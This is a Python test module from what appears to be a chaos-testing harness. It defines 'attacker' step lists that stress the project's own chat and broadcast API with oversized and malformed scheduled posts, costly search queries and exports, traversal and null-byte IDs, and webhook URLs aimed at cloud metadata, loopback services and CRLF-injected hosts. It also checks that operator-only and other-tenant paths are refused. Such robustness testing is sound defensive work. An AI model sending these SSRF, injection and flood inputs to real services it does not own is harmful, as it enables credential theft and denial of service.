"""Attackers at the desks: what is scheduled, moderated, exported, searched, told elsewhere; operators'."""

from collections.abc import Sequence
from typing import Final
from urllib.parse import quote

from chaos.siege.attackers.attack import MAY, Attacker, Frames, Request, Step
from chaos.siege.attackers.over_crowds import EVENT, JSON, NDJSON, OTHER, held, nowhere, send
from chaos.siege.attackers.over_http import body, post, put_channel
from chaos.siege.attackers.over_sockets import say
from kernel.clock import SystemClock

_DAY_MS: Final = 24 * 3600 * 1000
#: As dear as 16 kB can be: to check it, to make an event of it, and to show it.
_DEAR: Final = {f"f{n}": {"g": [n] * 3} for n in range(600)}
_HERE: Final = "/v1/streams/broadcast"


def scheduling(channel: str) -> Sequence[Step]:
    """Hundreds of posts as large as may be, all due at one moment; at times that never come; others'."""
    now_ms = SystemClock().now_ms()
    soon = {"at": now_ms + 6000, "type": "note", "data": _DEAR}
    never: list[object] = [now_ms - _DAY_MS, now_ms + 400 * _DAY_MS, 2**63, -1, 1e308, "9" * 5000, None, []]
    never += ["9999-12-31T23:59:60Z", "2026-02-30T00:00:00Z", "+1e9m"]
    wrong: list[object] = [
        *({**soon, "at": at} for at in never),
        {**soon, "data": {"a": "x" * 30_000}},
        {**soon, "data": {"\0": [[[[[[[[]]]]]]]] * 500}},
        {**soon, "type": "poll"},
        {**soon, "type": "t" * 5000},
    ]
    listed = f"{_HERE}/{channel}-0/scheduled"
    return [
        *(send("PUT", f"{_HERE}/{channel}-{n % 4}/scheduled/p{n}", soon) for n in range(200)),
        *(send("PUT", f"{_HERE}/{channel}/scheduled/w{n}", one) for n, one in enumerate(wrong)),
        *(
            send("PUT", f"{_HERE}/{channel}/scheduled/{quote(one)}", soon)
            for one in ("i" * 500, "a\0", "../x")
        ),
        Request(path=listed, times=40, at_once=20),
        Request(path=listed, times=10, at_once=10, unread=True),
        *(
            send("PUT", f"/v1/streams/chat/{channel}/scheduled/c{n}", {**soon, "data": {"text": "x"}})
            for n in range(40)
        ),
        *(Request(method="DELETE", path=f"{listed}/p{n}") for n in range(0, 200, 8)),
    ]


def searching(channel: str) -> Sequence[Step]:
    """What operators of queries cost, nested and repeated; distances and moments at their ends."""
    tried = [
        " OR ".join(f"(from:a{n}* mentions:b{n}* -in:c{n}*)" for n in range(40)),
        " ".join(f"-({word}:a* OR type:b*)" for word in ("from", "in", "mentions") for _ in range(20)),
        "(" * 200 + "has:link" + ")" * 200,
        " OR ".join(f"near:{n},{n}~20000km" for n in range(60)),
        " OR ".join(f"near:89.9999999,{n}~1m" for n in range(60)),
        " ".join("-near:0,0~1e9km" for _ in range(60)),
        " OR ".join(f"on:2026-01-{n % 28 + 1:02d}" for n in range(100)),
        "after:999999999999d before:0001-01-01 since:99:99",
        " OR ".join(f'"a b c d e f g h {n}"' for n in range(60)),
        " ".join(f"a{n}*" for n in range(120)),
    ]
    counts = "facets=1&facet=sender&facet=type&size=1000&interval=1m&by=sender&standout=1&compare=1"
    past = f"/v1/streams/chat/{channel}/events"
    return [
        *(post(channel, {"text": " ".join(f"a{n}b{m}" for n in range(2000))}) for m in range(4)),
        *(Request(path=f"/v1/search?q={quote(q)}&limit=100", times=3, at_once=3) for q in tried),
        *(Request(path=f"/v1/search?q={quote(q)}&{counts}", times=2, at_once=2) for q in tried[:4]),
        *(
            Request(path=f"/v1/search?q=a&near={quote(one)}&within=9e99km")
            for one in ("nan,0", "91,0", "0", ",")
        ),
        *(
            Request(path=f"{past}?around={one}", times=4, at_once=4)
            for one in (nowhere(1), "9" * 40, "-1", "x")
        ),
        *(Request(path=f"{past}?around={nowhere(n)}&limit=500", times=2, at_once=2) for n in range(2, 20)),
    ]


def exporting_on(channel: str) -> Sequence[Step]:
    """Exports as many as may be, by readers who take nothing, and from the middle on, again and again."""
    text, path = "=word " * 30_000, f"/v1/streams/chat/{channel}/events"
    forms = ("csv", "ndjson")
    return [
        *(post(channel, {"text": text}, times=4, at_once=2) for _ in range(4)),
        *(Request(path=f"{path}?format={one}", times=20, at_once=20, unread=True) for one in forms),
        *(
            Request(path=f"{path}?format={one}&after={n}", times=2, at_once=2)
            for one in forms
            for n in range(20)
        ),
        *(Request(path=f"{path}?format=csv&limit={one}") for one in ("0", "-1", "9" * 400, "1e9", "")),
        *(
            Request(path=f"/v1/search?q=word&channel={channel}&format={one}", times=10, at_once=10)
            for one in forms
        ),
        Request(path=f"/v1/search?q=word&format=csv&cursor={'A' * 6000}"),
        Request(path=f"/v1/search?q=word&format={'x' * 3000}"),
    ]


def telling(channel: str) -> Sequence[Step]:
    """Alerts of one's own, posted to where nobody may post; a stream that tells of itself."""
    own = f"broadcast:alert-{channel}"
    urls = [
        *("http://169.254.169.254/latest/meta-data", "http://127.0.0.1:9200/_all", "http://localhost:9092/"),
        *("http://[::1]/", "http://[fe80::1%25eth0]/", "http://0/", "http://0x7f000001/", "http://127.1/"),
        *("http://foe.invalid@127.0.0.1/", "http://127.0.0.1#@foe.invalid/", "gopher://127.0.0.1/"),
        *("https://foe.invalid:99999/", "https://" + "a." * 200 + "invalid/", "https://foe.invalid/\r\nX: y"),
    ]
    about = {"q": "goal", "streams": [f"chat:{channel}", own]}
    return [
        send("PUT", f"/v1/alerts/{channel}", about),
        *(send("PUT", f"/v1/webhooks/{channel}-a", {"url": url, "streams": [own]}) for url in urls),
        send("PUT", f"/v1/webhooks/{channel}-b", {"url": "https://foe.invalid/", "streams": [own] * 5000}),
        send(
            "PUT",
            f"/v1/webhooks/{channel}-c",
            {"url": "https://foe.invalid/", "streams": ["broadcast:alert-*"]},
        ),
        send("PUT", "/v1/notifications", {"webhook": urls[0]}, times=10),
        post(channel, {"text": "goal " * 2000}, times=60, at_once=20),
        send("PUT", f"/v1/alerts/{channel}", about, times=60, at_once=20),
        Request(method="DELETE", path=f"/v1/alerts/{channel}"),
    ]


def starring(channel: str) -> Sequence[Step]:
    """Patterns of many stars, of webhooks and of alerts: who is not careful tries all ways to read one."""
    patterns = [f"chat:{channel}{'*a' * stars}b" for stars in range(1, 50)]
    aimed = f"{channel}{'a' * 90}"
    return [
        *(
            send(
                "PUT",
                f"/v1/webhooks/{channel}-{n}",
                {"url": f"https://foe-{n}.invalid/", "streams": patterns},
            )
            for n in range(40)
        ),
        *(
            send("PUT", f"/v1/alerts/{channel}-{n}", {"q": "goal", "streams": patterns[n : n + 5]})
            for n in range(40)
        ),
        *(post(f"{aimed}{n}", {"text": "goal"}, times=4, at_once=4) for n in range(60)),
        *(Request(method="DELETE", path=f"/v1/webhooks/{channel}-{n}") for n in range(0, 40, 2)),
    ]


def retracting(channel: str) -> Sequence[Step]:
    """An administrator who takes everything back, many at once and what is not there; a log of all of it."""
    path = f"/v1/streams/chat/{channel}/events"
    gone = [{"type": "retract", "data": {"target": nowhere(n)}} for n in range(3000)]
    again = [{"type": "retract", "data": {"target": held(EVENT)}}] * 2000
    lines = b"\n".join(body(one) for one in gone)
    return [
        put_channel(channel, {"publishers": [channel]}),
        post(channel, {"text": "not for long"}, keeps=EVENT),
        Request(method="POST", path=path, body=lines, headers=NDJSON, times=4, at_once=2),
        send("POST", path, again, times=2, at_once=2),
        *(
            send("POST", f"/v1/channels/{channel}/moderation", {"do": "mute", "user": f"u{n}"})
            for n in range(60)
        ),
        Request(path=f"{_HERE}/touchline-audit-{channel}/events?limit=500", times=40, at_once=20),
        Request(path=f"{_HERE}/touchline-audit-{channel}/events?format=csv", times=10, at_once=10),
        Frames(
            texts=[say("subscribe", 1, stream=f"broadcast:touchline-audit-{channel}", last=1000)],
            connections=20,
            reads=False,
        ),
    ]


def answering(channel: str) -> Sequence[Step]:
    """Edits of, and answers to, thousands of events, each of which is looked up; reports of large ones."""
    path, reports = f"/v1/streams/chat/{channel}/events", f"/v1/streams/chat/{channel}/reports"
    edits = [{"type": "edit", "data": {"target": nowhere(n), "text": "x"}} for n in range(3000)]
    answers = [{"data": {"reply_to": nowhere(n), "text": "x"}} for n in range(3000)]
    large = [
        step
        for n in range(12)
        for step in (
            post(channel, {"text": f"{n} " * 400_000}, keeps=EVENT),
            send("POST", reports, {"target": held(EVENT), "reason": "large"}),
        )
    ]
    return [
        *large,
        Request(path=f"{reports}?limit=50", times=20, at_once=10),
        Request(path=f"{reports}?limit=50", times=12, at_once=12, unread=True),
        *(
            Request(
                method="POST",
                path=path,
                body=b"\n".join(map(body, lines)),
                headers=NDJSON,
                times=2,
                at_once=2,
            )
            for lines in (edits, answers)
        ),
        Frames(
            texts=[
                say("publish", n, stream=f"chat:{channel}", data={"reply_to": nowhere(n), "text": "x"})
                for n in range(1, 190)
            ],
            connections=6,
        ),
    ]


def tracing(channel: str) -> Sequence[Step]:
    """Headers of traces without end, and such as are none."""
    right = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
    wrong = ["", "00-" + "0" * 32 + "-" + "0" * 16 + "-01", "ff-" + "a" * 5000, right + "-" + "b" * 5000]
    path, said = f"/v1/streams/chat/{channel}/events", body({"data": {"text": "traced"}})

    def traced(parent: str, times: int) -> Request:
        headers = {**JSON, "traceparent": parent, "tracestate": "x=" + "y" * 4000}
        return Request(method="POST", path=path, body=said, headers=headers, times=times, at_once=20)

    return [traced(right, 200), *(traced(one, 10) for one in wrong)]


def prying_on(channel: str) -> Sequence[Step]:
    """What is operators' alone, and what is of desks that are somebody else's: each is refused."""
    records = "/v1/ops/records?topic=touchline"
    theirs, later = f"{_HERE}/canary-1/scheduled", {"at": SystemClock().now_ms() + _DAY_MS}
    return [
        *(
            Request(path=path)
            for path in (
                *(
                    f"{records}.{one}"
                    for one in ("events.chat", "rooms", "webhooks", "ingest.location", "control")
                ),
                f"{records}.events.chat&key={OTHER}&partition=0&before=0:999999999999&limit=100",
                f"{records}.events.chat&before={'0:1,' * 900}0:1",
                "/v1/ops",
                "/v1/ops/past",
                "/v1/ops/topics",
                theirs,
                f"{theirs}/x",
                f"{_HERE}/touchline-audit-canary-1/events",
                f"{_HERE}/touchline-audit-canary-1~0/events",
                f"{_HERE}/touchline-audit-canary-1/events?format=csv",
                f"{_HERE}/alert-canary/events",
                "/v1/streams/chat/canary-1/reports",
                "/v1/channels/canary-1/moderation",
            )
        ),
        send("PUT", f"{theirs}/x", {**later, "type": "note", "data": {}}),
        Request(method="DELETE", path=f"{theirs}/x"),
        send("PUT", "/v1/follows/touchline-audit-canary-1", {}),
        send(
            "PUT", "/v1/webhooks/pry", {"url": "https://foe.invalid/", "streams": ["broadcast:alert-canary"]}
        ),
        send(
            "PUT",
            "/v1/webhooks/pry",
            {"url": "https://foe.invalid/", "streams": ["broadcast:touchline-audit-*"]},
        ),
        send("PATCH", "/v1/streams/chat/canary-1/reports", {"reports": [0]}),
        send("POST", "/v1/rejections/retry", {}),
        send("POST", f"{_HERE}/touchline-audit-{channel}/events", {"type": "moderation", "data": {}}),
        send("PUT", "/v1/notifications", {"push": {"endpoint": "https://foe.invalid/", "keys": {}}}),
    ]


#: Alerts of their own, and what arrives by them.
_TOLD: Final = {
    **MAY,
    "publish": ("*:foe-*", "broadcast:alert-foe-*"),
    "history": ("*:foe-*", "broadcast:alert-foe-*"),
}
#: As wide as a grant of a user can be who administers nothing.
_ALL: Final = dict.fromkeys(("history", "search"), ("*:foe-*", "broadcast:touchline-audit-foe-*"))

DESKS: Final[Sequence[Attacker]] = (
    Attacker(name="scheduling", way="http", case=0, steps=scheduling),
    Attacker(name="searching", way="http", case=0, steps=searching),
    Attacker(name="exporting-on", way="http", case=0, steps=exporting_on),
    Attacker(name="telling", way="http", case=0, steps=telling, can=_TOLD),
    Attacker(name="starring", way="http", case=0, admin=True, steps=starring, can=_TOLD),
    Attacker(name="retracting", way="http", case=0, admin=True, steps=retracting, can={**MAY, **_ALL}),
    Attacker(name="answering", way="http", case=0, admin=True, steps=answering),
    Attacker(name="tracing", way="http", case=0, steps=tracing),
    Attacker(name="prying-on", way="http", case=0, refused=True, steps=prying_on),
)
